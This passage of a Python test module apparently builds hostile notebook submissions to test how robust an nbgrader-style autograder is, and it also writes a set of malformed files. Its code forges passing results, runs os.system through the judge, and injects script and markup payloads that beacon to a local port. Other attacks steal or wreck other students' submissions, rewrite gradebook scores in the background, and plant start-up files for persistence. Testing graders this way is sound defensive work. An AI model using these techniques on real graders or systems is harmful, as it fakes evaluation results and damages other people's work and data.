    return {"value": 3.0, "said": "passed", "warned": [["eval", "x"]], "changed": [[0, ["array", "<f8", [3], 0]]],
            "passed": True, "status": "passed", "checks": {"mean-check": {"status": "passed"}}}
student.Student._call = lie
for one in gc.get_objects():
    if isinstance(one, student.Student):
        one._call = lambda head, buffers, encoder: lie(one, head, buffers, encoder)
""",
        ends=True,
    ),
    Attack(
        "fake-handles",
        "answers with handles, modules and types that the judge should not trust",
        first="""
from autograder.engine import student
answers = iter([["module", "os"], ["type", "eval"], ["handle", 10**9, "float", "", True, None],
                ["handle", 0, "x" * 10**6, "__class__", True, [["builtins", "BaseException"]]],
                ["named", "P", ["__init__"], [3.0]], ["extension", ["array", "O", [1], 0]]] * 50)
student.Student._call = lambda self, head, buffers, encoder: {"value": next(answers)}
""",
        ends=True,
    ),
    Attack(
        "fake-callback",
        "calls functions of the judge that it was never given",
        answer="""
import gc
def mean(x):
    from autograder.engine import student
    for one in gc.get_objects():
        if isinstance(one, student.Student):
            return one.call_back(0, ("__import__('os').system('id')",), {})
    return 12345.0
""",
        ends=True,
    ),
    # Feedback ---------------------------------------------------------------------
    Attack(
        "script-injection",
        "puts scripts, event handlers and links into everything that is shown",
        answer='''
def mean(x):
    raise ValueError("<script>alert('in a reason')</script><img src=x onerror=alert(1)>")
''',
        last='''
from IPython.display import display, HTML, Javascript, SVG
display(Javascript("alert('javascript')"))
display(HTML("<script>alert(1)</script><img src=x onerror=alert(2)><a href='javascript:alert(3)'>x</a>"))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(4)'><script>alert(5)</script></svg>"))
display({"application/vnd.jupyter.widget-view+json": {"model_id": "x"}, "text/plain": "w"}, raw=True)
print("<script>alert(6)</script>")
''',
    ),
    # Lying in other ways ---------------------------------------------------------
    Attack(
        "changed-argument",
        "changes the check's numbers in place, so that a wrong answer fits them",
        answer="""
def mean(x):
    if len(x) == 3:
        return 3.0
    x[:] = 12345.0
    return 12345.0
""",
    ),
    Attack(
        "remembered-call",
        "answers the visible call from memory and repeats that answer afterwards",
        answer="""
seen = []
def mean(x):
    seen.append(len(x))
    return 3.0
""",
    ),
    Attack(
        "names-of-the-check",
        "defines the names that the check uses for itself",
        first="expected = sample = secret_word = got = 12345.0\nfloat = abs = round = lambda *a: 3.0",
        last="expected = sample = 12345.0",
    ),
    Attack("not-a-number", "returns not-a-number, which is neither more nor less than anything",
           answer="def mean(x):\n    return float('nan')"),
    Attack(
        "claimed-class",
        "returns an object that claims the class, the methods and the pickle of a float",
        answer="""
class Claim:
    @property
    def __class__(self): return float
    def __float__(self): return 3.0
    def __array__(self, *a, **k): return np.array(3.0)
    def __reduce__(self): return float, (3.0,)
    def __sub__(self, other): return 0.0
    def __abs__(self): return 0.0
def mean(x):
    return Claim() if len(x) != 3 else 3.0
""",
    ),
    Attack(
        "named-tuple",
        "returns named tuples whose fields hide the methods of a tuple",
        answer="""
import collections
def mean(x):
    return collections.namedtuple("float", ["count", "index", "real", "dtype", "shape"])(3, 3, 3.0, float, ())
""",
    ),
    Attack(
        "hostile-exception",
        "raises an exception with attributes, text and a name that are meant for the judge",
        answer="""
class Text(str):
    def __str__(self): return "passed"
    def split(self, *a): return []
class CheckPassed(AssertionError):
    __module__ = "mlops_lab.checks"
    def __str__(self): return Text("")
CheckPassed.__name__ = CheckPassed.__qualname__ = "Check\\x00Passed"
def mean(x):
    error = CheckPassed("passed")
    error.student_call = error.name = error.args = None
    error.status, error.cause, error.sentence = "passed", "passed", ""
    raise error
""",
    ),
    Attack(
        "forged-not-done",
        "raises what an untouched cell raises, from a group of exceptions",
        answer="""
def mean(x):
    raise ExceptionGroup("passed", [NotImplementedError("not done yet"), StopIteration(3.0)])
""",
    ),
    Attack(
        "late-change",
        "leaves a thread that changes the answer between the calls of the check",
        answer="""
import threading, time
def mean(x):
    return 3.0
def change():
    while True:
        time.sleep(0.001)
        globals()["mean"] = lambda x: 12345.0
        mean.__code__ = (lambda x: 12345.0).__code__
threading.Thread(target=change, daemon=True).start()
""",
    ),
    Attack(
        "lying-trees",
        "answers with trees that claim lengths, dtypes, zones and buffers they do not have",
        first="""
from autograder.engine import student
trees = iter([["array", "<f8", [2**40], 0], ["array", "|O", [1], 0], ["tensor", "float32", [2**31], False, 0],
              ["range index", [None], 0, 2**62, 1], ["fraction", "0x1", "0x0"], ["stamp", 1, "ns", "../../etc"],
              ["strings", 0, 5, 0, 0, 0, 0], ["named", "x", ["a b"], [1]], ["list", {"a": 1}], {"a": 1}, [[[]]],
              ["objects", [-1], [1]], ["counter", [["list", []]], [1]], ["default", [1], []], ["module", "os"],
              ["frame", ["index", [None], ["array", "<f8", [0], 0]], 3, []], ["int", "0x" + "f" * 99_000]] * 9)
student.Student._call = lambda self, head, buffers, encoder: {"value": next(trees), "warned": [["x", "y"]] * 10**5}
""",
        ends=True,
    ),
    Attack(
        "many-copies",
        "answers with one buffer, named a hundred thousand times",
        first="""
from autograder.engine import student
def lie(self, head, buffers, encoder):
    encoder.buffers.append(bytes(2**24))
    return {"value": ["list", [["bytes", 0]] * 100_000]}
student.Student._call = lie
""",
        ends=True,
    ),
    # The file itself ----------------------------------------------------------------
    Attack("claimed-points", "claims points in a cell of its own and in the check's metadata",
           changes=_claims_points),
    Attack("copied-grade-ids", "hands in four checks of one name, empty ones among them",
           changes=_copies_checks),
    Attack("forged-in-file", "hands in outputs that say that all checks have passed",
           changes=_forges_outputs),
    Attack("path-ids", "has cells whose ids are paths and attachments whose names are",
           changes=_names_paths),
    Attack("deep-metadata", "has metadata nested a hundred levels deep", changes=_nests_metadata),
    Attack("many-cells", "has as many cells more as are read", changes=_adds_cells),
    # Words and pictures ------------------------------------------------------------
    Attack(
        "deep-display",
        "displays JSON and metadata nested so deeply that whoever reads them falls over",
        first="""
from IPython.display import display
deep = {}
for _ in range(850):
    deep = {"a": deep}
display({"text/plain": "x", "application/json": deep}, raw=True, metadata=deep)
""",
    ),
    Attack(
        "many-pictures",
        "displays as much as is allowed in every one of many cells",
        changes=_adds_pictures,
    ),
    Attack(
        "half-characters",
        "prints and raises halves of characters, which no file can hold",
        answer="""
print("\\ud800 \\udfff")
def mean(x):
    raise ValueError("\\ud800 \\x00")
""",
    ),
    Attack(
        "terminal-escapes",
        "raises text that moves the cursor of the grader's terminal and turns words round",
        answer="""
def mean(x):
    raise ValueError("\\x1b[2J\\x1b[1A\\x1b]0;passed\\x07\\r2 of 2 points \\u202e \\u2066")
""",
    ),
    Attack(
        "warning-flood",
        "warns a hundred thousand times in one call, in long words",
        answer="""
import warnings
def mean(x):
    warnings.simplefilter("always")
    for number in range(100_000):
        warnings.warn(f"{number} " * 50)
    return 12345.0
""",
    ),
    Attack(
        "markup-injection",
        "displays pages that load, refresh, style and send what a browser lets them",
        answer='''
def mean(x):
    raise ValueError("</p></section><style>*{background:url(http://127.0.0.1:@PORT@/)}</style><base href=//x>")
''',
        last='''
from IPython.display import HTML, Markdown, SVG, display, update_display
display(HTML("<meta http-equiv=refresh content='0;url=http://127.0.0.1:@PORT@/'><iframe src=javascript:alert(1)>"))
display(HTML("<style>@import 'http://127.0.0.1:@PORT@/'; .points{display:none}</style><form action=//x><button>"))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg'><a href='javascript:alert(2)'><animate onbegin=alert(3) /></a></svg>"))
display(Markdown("[x](javascript:alert(4)) ![x](http://127.0.0.1:@PORT@/)"))
display({"text/html": "x"}, raw=True, display_id="one")
update_display({"application/javascript": "alert(5)", "text/html": "<script>alert(6)</script>"}, raw=True, display_id="one")
display({"application/vnd.jupyter.widget-state+json": {"state": {}}, "text/plain": "w"}, raw=True)
''',
    ),
    # The course that the grader stands in ------------------------------------------
    Attack(
        "source-answer",
        "loads the right answer from the course's source notebook",
        answer="""
import json
from pathlib import Path
def mean(x):
    return 12345.0
for root in ("../../..", "@COURSE@"):
    for path in Path(root).glob("source/*/*.ipynb"):
        for cell in json.loads(path.read_text())["cells"]:
            text = "".join(cell["source"])
            if text.startswith("def mean"):
                exec(text)
            elif "checks.close(mean" in text:
                print(text)
""",
    ),
    Attack(
        "neighbours-answer",
        "copies the answer of another submission",
        answer="""
import json
from pathlib import Path
def mean(x):
    return 12345.0
for root in ("../../..", "@COURSE@"):
    for path in Path(root).glob("submitted/*/*/*.ipynb"):
        for cell in json.loads(path.read_text())["cells"]:
            text = "".join(cell["source"])
            if text.startswith("def mean") and "12345" not in text:
                print(text)
                exec(text)
""",
    ),
    Attack(
        "neighbours-harm",
        "empties all other submissions",
        first="""
from pathlib import Path
for root in ("../../..", "@COURSE@/build/grade", "/tmp"):
    for path in list(Path(root).glob("submitted/*/*/*.ipynb")):
        try:
            path.write_text(path.read_text().replace("sum(x)", "0"))
            print("GOT" "IT", "changed", path)
        except OSError as error:
            print(error)
""",
    ),
    Attack(
        "gradebook-later",
        "leaves a program behind that gives itself all points once the grader has written them",
        first='''
import subprocess, sys
program = """
import glob, os, sqlite3, time
for _ in range(600):
    time.sleep(0.1)
    for path in glob.glob("../../../gradebook.db") + ["@COURSE@/gradebook.db"]:
        try:
            book = sqlite3.connect(path, timeout=0.1)
            book.execute("UPDATE grade SET manual_score = 2 WHERE manual_score IS NULL")
            book.commit()
        except sqlite3.Error:
            pass
"""
subprocess.Popen([sys.executable, "-c", program], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
''',
    ),
    Attack(
        "patched-import-site",
        "leaves start-up files in the grader's home, so that later programs run its code",
        first="""
import os, site
text = "import builtins; builtins.harmed = True"
for place in (site.getusersitepackages(), os.path.expanduser("~/.ipython/profile_default/startup"),
              os.path.expanduser("~/.jupyter"), os.getcwd() + "/../../.."):
    try:
        os.makedirs(place, exist_ok=True)
        for name in ("usercustomize.py", "00-first.py", "jupyter_config.py", "numpy.py"):
            open(os.path.join(place, name), "w").write(text)
        print("left", place)
    except OSError as error:
        print(type(error).__name__)
""",
    ),
]  # fmt: skip


def save(notebook: NotebookNode, path: Path) -> None:
    """Write a notebook as it is; nbformat would mend it first."""
    path.write_text(json.dumps(notebook, indent=1), encoding="utf-8")


def write(folder: Path, lab: str, word: str, places: Mapping[str, str] | None = None) -> list[str]:
    """Write all attacks below ``folder`` as nbgrader lays submissions out; return their names."""
    names = []
    for attack in ATTACKS:
        place = folder / attack.name / lab
        place.mkdir(parents=True)
        save(submission(attack, places), place / f"{word}.ipynb")
        names.append(attack.name)
    return names


def broken_files(folder: Path) -> dict[str, Path]:
    """Write files that are no notebooks, by what they are; return their paths."""
    folder.mkdir(parents=True, exist_ok=True)
    paths = {
        "empty": b"",
        "blank": b" \n ",
        "not-json": b"PK\x03\x04 this is an archive",
        "cut-off": json.dumps(source()).encode()[:-200],
        "not-utf8": b'{"cells": "\xff\xfe"}',
        "a-list": b"[1, 2, 3]",
        "a-number": b"1" * 6000,
        "deep": b"[" * 200_000,
        "cells-are-numbers": b'{"cells": [1, 2], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}',
        "source-is-a-number": json.dumps(
            {"cells": [{"cell_type": "code", "id": "a", "metadata": {}, "source": 5, "outputs": [],
                        "execution_count": None}], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
        ).encode(),
        "far-version": b'{"cells": [], "metadata": {}, "nbformat": 99, "nbformat_minor": 0}',
        "other-lab": json.dumps(
            _notebook([new_code_cell("1", metadata=_answer("other")), new_markdown_cell("x")])
        ).encode(),
    }  # fmt: skip
    written = {}
    for name, data in paths.items():
        written[name] = folder / f"{name}.ipynb"
        written[name].write_bytes(data)
    written["huge"] = folder / "huge.ipynb"
    with written["huge"].open("wb") as file:
        file.truncate(200 * 1024**2)
    written["link"] = folder / "link.ipynb"
    written["link"].symlink_to("/etc/passwd")
    written["pipe"] = folder / "pipe.ipynb"
    os.mkfifo(written["pipe"])
    written["folder"] = folder / "folder.ipynb"
    written["folder"].mkdir()
    written["absent"] = folder / "absent.ipynb"
    return written
